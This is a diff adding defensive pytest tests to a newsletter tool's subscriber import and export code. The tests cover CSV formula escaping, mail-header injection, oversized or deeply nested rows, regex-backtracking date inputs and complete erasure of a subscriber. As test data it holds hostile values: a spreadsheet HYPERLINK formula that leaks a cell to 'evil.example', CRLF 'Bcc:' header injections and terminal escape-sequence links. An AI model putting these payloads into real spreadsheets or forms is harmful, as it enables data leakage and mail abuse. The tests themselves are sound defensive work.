@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sqlite3
 from datetime import datetime, timezone
 from pathlib import Path
 
@@ -16,7 +17,7 @@ import pytest
 from click.testing import CliRunner, Result
 
 from digest.audience import records
-from digest.audience.exports import write_export
+from digest.audience.exports import spreadsheet_cell, write_export
 from digest.audience.imports.importer import import_file
 from digest.audience.imports.mapping import parse_mapping
 from digest.audience.imports.report import ImportReport
@@ -720,3 +721,207 @@ def test_rows_of_a_plain_json_list_that_cannot_be_used_are_rejected_with_the_rea
     gone = store.get("gone@example.com")  # a list that only says when someone left
     assert gone is not None and gone.status == "unsubscribed"
     assert {s.email for s in store.list()} == {"ok@example.com", "gone@example.com"}
+
+
+# ------------------------------------------------------------------- hostile rows and cells
+
+
+def test_csv_formula_injection_is_prefixed_in_the_export(
+    store: SubscriberStore, tmp_path: Path
+) -> None:
+    """Cells starting with = + - @, a tab or a CR are prefixed with ' so that a spreadsheet
+    shows them as text; the export still reads back into the same names."""
+    names = {
+        "a@example.com": '=HYPERLINK("https://evil.example/?"&A2,"click")',
+        "b@example.com": "+1+2",
+        "c@example.com": "-2+3",
+        "d@example.com": "@SUM(1)",
+        "e@example.com": "\t=1",
+        "f@example.com": "Ann = Lee",
+    }
+    for email, name in names.items():
+        store.add(email, name=name, now=NOW)
+    out = io.StringIO()
+    write_export(store, out, fmt="csv")
+    cells = {row["email"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert cells == {
+        "a@example.com": '\'=HYPERLINK("https://evil.example/?"&A2,"click")',
+        "b@example.com": "'+1+2",
+        "c@example.com": "'-2+3",
+        "d@example.com": "'@SUM(1)",
+        "e@example.com": "'=1",  # names lose control characters when stored: "\t=1" is "=1"
+        "f@example.com": "Ann = Lee",
+    }
+    assert [spreadsheet_cell(v) for v in ("\t=1", "\r=1", "=", "a=b", "")] == [
+        "'\t=1",
+        "'\r=1",
+        "'=",
+        "a=b",
+        "",
+    ]
+    # digest's own CSV reads back into the same names
+    path = tmp_path / "export.csv"
+    path.write_text(out.getvalue(), encoding="utf-8")
+    again = SubscriberStore(tmp_path / "again.sqlite")
+    load(again, str(path))
+    assert {s.email: s.name for s in again.list()} == {
+        **{e: n for e, n in names.items() if e != "e@example.com"},
+        "e@example.com": "=1",
+    }
+
+
+def test_header_injection_names_lose_control_characters_at_every_entry(
+    store: SubscriberStore, tmp_path: Path
+) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text(
+        'email,name\nann@example.com,"Ann\r\nBcc: victim@example.com"\n'
+        'bob@example.com,"Bob\x1b]8;;https://evil.example\x07\u202eBad"\n',
+        encoding="utf-8",
+    )
+    load(store, str(path))
+    assert store.get("ann@example.com").name == "Ann Bcc: victim@example.com"  # type: ignore[union-attr]
+    assert store.get("bob@example.com").name == "Bob]8;;https://evil.exampleBad"  # type: ignore[union-attr]
+    # the subscribe form and `subscribers add` go through the same store
+    store.add("cy@example.com", name="Cy\nBcc: x@example.com\x00", now=NOW)
+    assert store.get("cy@example.com").name == "Cy Bcc: x@example.com"  # type: ignore[union-attr]
+    store.add("cy@example.com", name="Cy\r\nTo: y@example.com", now=NOW)
+    assert store.get("cy@example.com").name == "Cy To: y@example.com"  # type: ignore[union-attr]
+
+
+def test_one_bad_import_row_is_one_skipped_row(store: SubscriberStore, tmp_path: Path) -> None:
+    """A 5 MB field, a deeply nested value and a year-9999 date each reject their row, named
+    with its line and reason; the other rows are imported."""
+    big = "x" * (5 * 1024 * 1024)
+    path = tmp_path / "list.csv"
+    path.write_text(
+        "email,name,created\n"
+        "ann@example.com,Ann,2026-01-02\n"
+        f"big@example.com,{big},2026-01-02\n"
+        "late@example.com,Late,9999-12-31T23:59:59-01:00\n"
+        "bob@example.com,Bob,2026-01-03\n",
+        encoding="utf-8",
+    )
+    report = load(store, str(path))
+    assert sorted(s.email for s in store.list()) == ["ann@example.com", "bob@example.com"]
+    assert [(r.row, r.reason) for r in report.rejected] == [
+        (3, "a field is longer than 131072 characters"),
+        (4, "subscribed_at '9999-12-31T23:59:59-01:00' is out of range"),
+    ]
+    deep = tmp_path / "list.json"
+    deep.write_text(
+        '[{"email": "ann@example.com"},\n'
+        ' {"email": "deep@example.com", "name": ' + "[" * 100_000 + "]" * 100_000 + "},\n"
+        ' {"email": "cy@example.com"}]',
+        encoding="utf-8",
+    )
+    report = load(store, str(deep))
+    assert [(r.row, r.reason) for r in report.rejected] == [(2, "nested deeper than 32 levels")]
+    assert store.get("cy@example.com") is not None
+
+
+def test_erasure_is_complete_and_lists_what_it_changed(sample_site: Path) -> None:
+    """`subscribers forget` reaches every copy digest keeps: the subscriber row, the
+    service-mail counts, the ledger's address, provider ids and message ids, and the
+    outbox files named after the address; it lists each change (text and --json)."""
+    from digest.config import load_config
+
+    site = sample_site
+    config = load_config(site / "config.yaml")
+    with SubscriberStore(config.path(config.subscribers.database)) as store:
+        store.add("ann@example.com", name="Ann", now=NOW)
+        store.add("bob@example.com", name="Bob", now=NOW)
+        assert store.reserve_mail("ann@example.com", now=NOW, window=86400, limit=5)
+    sent = run_digest("send", "--week", "2026-W47", cwd=site)
+    assert sent.returncode == 0, sent.stderr
+    confirmations = site / "out" / "confirmations" / "outbox"
+    confirmations.mkdir(parents=True)
+    (confirmations / "00000001-ann@example.com.eml").write_text("To: ann@example.com\n")
+
+    gone = run_digest("subscribers", "forget", "ann@example.com", "--yes", "--json", cwd=site)
+    assert gone.returncode == 0, gone.stderr
+    report = json.loads(gone.stdout)
+    assert report["email"] == "ann@example.com"
+    assert report["subscriber"] == "erased"
+    assert report["service_mail"] == 1
+    assert report["ledger_rows"] == 1
+    assert sorted(report["files"]) == [
+        "out/2026-W47/outbox/00000001-ann@example.com.eml",
+        "out/confirmations/outbox/00000001-ann@example.com.eml",
+    ]
+    ledger = sqlite3.connect(site / "data" / "ledger.sqlite")
+    rows = ledger.execute(
+        "SELECT email, COALESCE(message_id, ''), COALESCE(provider_message_id, '') "
+        "FROM deliveries ORDER BY subscriber_id"
+    ).fetchall()
+    assert rows[0][0] == "(erased)"
+    assert all("ann@" not in cell for cell in rows[0])
+    assert rows[1][0] == "bob@example.com" and "bob@example.com" in rows[1][2]
+    subscribers = sqlite3.connect(site / "data" / "subscribers.sqlite")
+    assert subscribers.execute("SELECT COUNT(*) FROM service_mail").fetchone() == (0,)
+    left = [p.name for p in (site / "out").rglob("*") if "ann@" in p.name]
+    assert left == []
+    text = run_digest("subscribers", "forget", "bob@example.com", "--yes", cwd=site)
+    assert text.returncode == 0, text.stderr
+    lines = text.stdout.splitlines()
+    assert lines[0].startswith("bob@example.com: erased (erasure recorded 20")
+    assert lines[1:] == [
+        "  subscriber store: row deleted",
+        "  service mail counts: 0 removed",
+        "  ledger: 1 row(s) blanked (address, provider id, message id)",
+        "  files: 1 deleted",
+        "    out/2026-W47/outbox/00000002-bob@example.com.eml",
+        "  not reached: backups, and the provider's own lists and logs",
+    ]
+
+
+def test_an_erased_mailbox_stays_erased_under_another_spelling(store: SubscriberStore) -> None:
+    add_subscriber(
+        store,
+        "ann.lee@gmail.com",
+        name="",
+        categories=(),
+        status="active",
+        now=NOW,
+        erasure_key=KEY,
+    )
+    forget(store, "ann.lee@gmail.com", now=NOW, erasure_key=KEY)
+    for spelling in ("annlee@googlemail.com", "Ann.Lee+news@gmail.com"):
+        with pytest.raises(Forgotten, match="erased on request"):
+            add_subscriber(
+                store,
+                spelling,
+                name="",
+                categories=(),
+                status="active",
+                now=LATER,
+                erasure_key=KEY,
+            )
+    assert records.forgotten_at(store.connection, "someone.else@gmail.com", KEY) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "2026-01-01 00:00:00" + " " * 900_000 + "1",
+        "2026-01-01 00:00:00." + "1" * 900_000 + "x",
+        "2026-01-01 00:00:00 m=+" + "1." * 450_000 + "x",
+        "\\" * 450_000,
+    ],
+    ids=["spaces", "fraction", "monotonic", "backslashes"],
+)
+def test_a_1mb_hostile_import_value_is_one_rejected_row_within_a_second(
+    store: SubscriberStore, tmp_path: Path, value: str
+) -> None:
+    """A row just under the row limit (about 1 MB in the file) holding a value built to
+    make a date pattern backtrack is rejected in linear time."""
+    import time
+
+    path = tmp_path / "list.json"
+    rows = [{"email": "ann@example.com"}, {"email": "bob@example.com", "created_at": value}]
+    path.write_text(json.dumps(rows), encoding="utf-8")
+    started = time.perf_counter()
+    report = load(store, str(path))
+    assert time.perf_counter() - started < 1.0
+    assert [r.row for r in report.rejected] == [2]
+    assert [s.email for s in store.list()] == ["ann@example.com"]
